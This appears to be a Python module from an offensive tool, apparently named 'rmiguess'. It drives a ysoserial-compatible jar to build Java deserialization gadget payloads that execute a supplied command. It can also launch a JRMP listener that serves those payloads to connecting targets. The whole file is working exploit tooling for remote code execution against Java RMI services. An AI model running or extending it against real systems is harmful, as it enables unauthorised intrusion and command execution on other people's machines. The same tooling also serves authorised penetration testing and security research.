"""External gadget generator (a ysoserial compatible jar) driven as a subprocess."""

import logging
import pathlib
import subprocess
from dataclasses import dataclass

from rmiguess.errors import GadgetGenerationError

logger: logging.Logger = logging.getLogger(__name__)

LISTENER_CLASS: str = "ysoserial.exploit.JRMPListener"


@dataclass(frozen=True)
class Gadget:
    """Serialized object graph produced by the generator."""

    name: str
    command: str
    payload: bytes

    @classmethod
    def from_file(cls, path: str | pathlib.Path, name: str = "file") -> "Gadget":
        """Use pre-generated payload bytes.

        :raises GadgetGenerationError: If the file cannot be read.
        """
        file_path: pathlib.Path = pathlib.Path(path)
        try:
            payload: bytes = file_path.read_bytes()
        except OSError as exc:
            raise GadgetGenerationError(f"Unable to read payload file {file_path}: {exc}") from exc
        return cls(name, str(file_path), payload)


class GadgetGenerator:
    """Run the generator jar to obtain gadget bytes or to serve them from a listener."""

    _jar_path: pathlib.Path
    _java: str
    _timeout: float

    def __init__(self, jar_path: str | pathlib.Path, java: str = "java", timeout: float = 60.0) -> None:
        """Initialize a generator.

        :param jar_path: Path of the generator jar.
        :param java: Java executable.
        :param timeout: Seconds to wait for payload generation.
        """
        self._jar_path = pathlib.Path(jar_path)
        self._java = java
        self._timeout = timeout

    @property
    def jar_path(self) -> pathlib.Path:
        return self._jar_path

    def _check_jar(self) -> None:
        if self._jar_path.is_file() is False:
            raise GadgetGenerationError(f"Gadget generator {self._jar_path} does not exist")

    def generate(self, gadget: str, command: str) -> Gadget:
        """Generate payload bytes for ``gadget`` running ``command``.

        :param gadget: Gadget name understood by the generator.
        :param command: Command string passed to the gadget.
        :returns: Generated gadget.
        :raises GadgetGenerationError: If the generator is missing, fails, times out or prints nothing.
        """
        self._check_jar()
        arguments: list[str] = [self._java, "-jar", str(self._jar_path), gadget, command]
        logger.debug("Running %s", " ".join(arguments))
        try:
            completed: subprocess.CompletedProcess[bytes] = subprocess.run(
                arguments,
                capture_output=True,
                timeout=self._timeout,
                check=True,
            )
        except FileNotFoundError as exc:
            raise GadgetGenerationError(f"Java executable {self._java!r} not found") from exc
        except subprocess.TimeoutExpired as exc:
            raise GadgetGenerationError(f"Gadget generation timed out after {self._timeout}s") from exc
        except subprocess.CalledProcessError as exc:
            stderr: str = exc.stderr.decode("utf-8", "replace").strip() if exc.stderr else ""
            raise GadgetGenerationError(f"Gadget generator exited with {exc.returncode}: {stderr}") from exc
        if len(completed.stdout) == 0:
            raise GadgetGenerationError(f"Gadget generator produced no output for {gadget}")
        return Gadget(gadget, command, completed.stdout)

    def listen(self, port: int, gadget: str, command: str) -> int:
        """Serve ``gadget`` from a JRMP listener until it exits.

        :param port: Listener port.
        :param gadget: Gadget name.
        :param command: Command string.
        :returns: Exit code of the listener process.
        :raises GadgetGenerationError: If the generator or Java cannot be started.
        """
        self._check_jar()
        arguments: list[str] = [
            self._java,
            "-cp",
            str(self._jar_path),
            LISTENER_CLASS,
            str(port),
            gadget,
            command,
        ]
        logger.info("Starting JRMP listener on port %d serving %s", port, gadget)
        try:
            completed: subprocess.CompletedProcess[bytes] = subprocess.run(arguments, check=False)
        except FileNotFoundError as exc:
            raise GadgetGenerationError(f"Java executable {self._java!r} not found") from exc
        return completed.returncode
